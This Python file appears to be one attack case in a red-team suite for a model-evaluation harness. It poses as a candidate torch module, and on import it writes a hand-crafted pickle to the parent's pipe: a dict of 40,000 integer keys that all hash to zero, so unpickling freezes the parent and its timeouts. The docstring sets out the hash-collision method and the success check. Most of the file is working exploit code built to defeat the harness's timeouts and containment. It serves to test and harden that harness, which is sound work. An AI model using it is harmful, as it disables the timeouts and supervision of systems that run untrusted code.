"""Attack: freeze the parent -- every thread, its timeouts included -- for as long as the
candidate likes, with a small, well-formed result message (no class at all: a plain dict).

A pickle may hold a dict; the parent's unpickler builds it in C while holding the GIL. Integers
hash to themselves modulo 2**61 - 1, so the keys ``k * (2**61 - 1)`` all hash to 0, and each
insertion compares against every earlier key: building the dict costs O(N**2). Nothing in
``load_message`` bounds the work per byte. This external candidate writes, at import, a
``JobResult`` whose ``value`` is such a dict with N = 40,000 keys (~0.6 MB, far below the 1 GiB
cap). While the reader thread unpickles it the parent's main thread cannot run: the per-job
timeout (``_recv_before``'s join, ``exploration.timeout_s``) does not fire, no other worker's
result is read, Ctrl-C is not handled. N = 10**6 (14 MB) is hours.

Success (GOT THROUGH): run_attack.py's heartbeat reports a stall of this process's Python
threads longer than ``exploration.timeout_s`` (run with ``--timeout 20``), and the job's
``wall_s`` exceeds the timeout. Contained: the message is refused or the job times out at 20 s.
"""
import os
import struct
import sys

import torch

N = 40_000
P = (1 << 61) - 1


def _int(v):  # pickle LONG1 of a positive int
    b = v.to_bytes((v.bit_length() + 8) // 8, "little", signed=True)
    return b"\x8a" + bytes([len(b)]) + b


body = b"".join(_int(k * P) + b"K\x00" for k in range(1, N + 1))
msg = (b"\x80\x02ckernelsynth.workers\nJobResult\nckernelsynth.contract\nFault\nX\x02\x00\x00\x00ok\x85R\x85R"
       b"}X\x05\x00\x00\x00value}(" + body + b"usb.")
os.write(int(sys.argv[1]), struct.pack("!i", len(msg)) + msg)
print(f"hash_flood: sent {len(msg)} bytes ({N} keys of hash 0)", flush=True)


class ModelNew(torch.nn.Module):
    def __init__(self, **kw):
        super().__init__()

    def forward(self, x):
        return x.flip(1)
